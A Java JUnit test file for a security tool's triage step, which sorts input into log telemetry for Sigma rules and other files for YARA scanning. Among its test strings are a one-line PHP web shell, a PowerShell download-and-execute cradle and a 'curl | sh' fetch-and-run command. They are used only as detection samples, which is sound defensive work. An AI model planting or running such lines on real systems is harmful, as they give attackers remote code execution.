package dev.vedette.pipeline;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vedette.model.Problem;
import dev.vedette.sources.files.ArchiveLimits;
import dev.vedette.sources.files.TelemetryFiles;
import dev.vedette.sources.files.TelemetryVisitor;
import dev.vedette.testkit.SharedData;
import java.io.IOException;
import java.io.InputStream;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Telemetry goes to Sigma, everything else to YARA. */
class FileTriageTest {
  private static FileTriage triage;

  @BeforeAll
  static void loadSources() throws IOException {
    triage = new FileTriage(new ContentLoader(SharedData.content()).load(List.of()));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "MZ\0\0\0\1\2\3\4\5\6\7",
        "<?php eval($_POST['x']);\necho 1;\n",
        "$x = New-Object Net.WebClient\nIEX $x.DownloadString('http://example.org/a')\n",
        "{\"name\": \"package\", \"version\": \"1.0\"}",
        "just a note\n",
        "%PDF-1.7\n%\u00e2\u00e3",
        "#!/bin/sh\n# started 10:11:12\ncurl http://example.org | sh\nrm -f x\n"
      })
  void filesAreNoTelemetry(String text) {
    assertThat(triage.isTelemetry(text.getBytes(ISO_8859_1))).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "ElfFile\0\0\0\0\0\0\0\0\0\0",
        "May  6 07:08:09 web1 sshd[12]: Failed password for root from 192.0.2.4 port 22 ssh2\n",
        "2025-06-24 14:36:25 startup archives unpack\n2025-06-24 14:36:26 upgrade x\n",
        "192.0.2.7 - - [06/May/2024:07:08:09 +0000] \"GET / HTTP/1.1\" 200 12\n",
        "{\"made\":\"up\"}\n{\"made\":\"up\"}\n",
        "type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=59\n"
      })
  void logsAreTelemetry(String text) {
    assertThat(triage.isTelemetry(text.getBytes(ISO_8859_1))).isTrue();
  }

  @Test
  void realTelemetryIsTelemetry() {
    var wrong = new ArrayList<String>();
    var files = new int[1];
    var visitor =
        new TelemetryVisitor() {
          @Override
          public void opening(Instant modified, long bytes) {}

          @Override
          public void progress(long bytes) {}

          @Override
          public void file(String name, InputStream content) throws IOException {
            files[0]++;
            if (!triage.isTelemetry(content.readNBytes(1 << 16))) {
              wrong.add(name);
            }
          }

          @Override
          public void problem(Problem problem) {}
        };

    new TelemetryFiles(ArchiveLimits.DEFAULT)
        .walk(
            List.of(
                SharedData.path("windows/evtx-to-mitre"),
                SharedData.path("windows/otrf/atomic"),
                SharedData.path("cloud-saas/aws-stratus"),
                SharedData.path("linux"),
                SharedData.path("network"),
                SharedData.path("vendors/crowdsec"),
                SharedData.path("vendors/sc4s")),
            visitor);

    assertThat(wrong.size()).isLessThan(files[0] / 20);
  }

  @Test
  void noBytesMakeItFail() {
    var random = new Random(5);
    for (int i = 0; i < 2_000; i++) {
      var bytes = new byte[random.nextInt(300)];
      random.nextBytes(bytes);
      if (i % 2 == 0) {
        for (int at = 0; at < bytes.length; at++) {
          bytes[at] = (byte) "{}[]\":,\n #<>059aT".charAt(bytes[at] & 15);
        }
      }
      triage.isTelemetry(bytes);
    }
  }
}
